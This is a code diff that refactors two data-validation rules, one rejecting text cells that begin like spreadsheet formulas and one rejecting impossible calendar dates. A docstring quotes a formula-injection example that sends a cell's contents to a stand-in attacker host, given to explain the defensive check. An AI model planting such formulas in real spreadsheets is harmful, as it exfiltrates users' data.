@@ -124,9 +124,7 @@ def no_formula_text(frames: Frames) -> Found:
     as a formula (``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` sends a neighbouring cell
     away when clicked). Escaping it in the release would change the data everyone reads back, so
     validation refuses it instead (README, Security)."""
-    for table, name in _text_fields(frames.package):
-        if table in frames.raw:
-            yield table, name, frames.cells(table, name, lambda cell: cell.str.contains(FORMULA_START))
+    yield from frames.cells_of(_text_fields(frames.package), lambda cell: cell.str.contains(FORMULA_START))
 
 
 @rule(STATES, targets=("states.state_id",))
@@ -158,10 +156,7 @@ def person_is_one_row(frames: Frames) -> Found:
 @rule(targets=lambda package: _date_fields(package))
 def dates_are_real(frames: Frames) -> Found:
     """A day-precision date is a real calendar day (no 2022-02-30), which a pattern cannot check."""
-    for name, column in _date_fields(frames.package):
-        if name not in frames.raw:
-            continue
-        yield name, column, frames.cells(name, column, _not_a_day)
+    yield from frames.cells_of(_date_fields(frames.package), _not_a_day)
 
 
 def _not_a_day(cell: pl.Expr) -> pl.Expr:
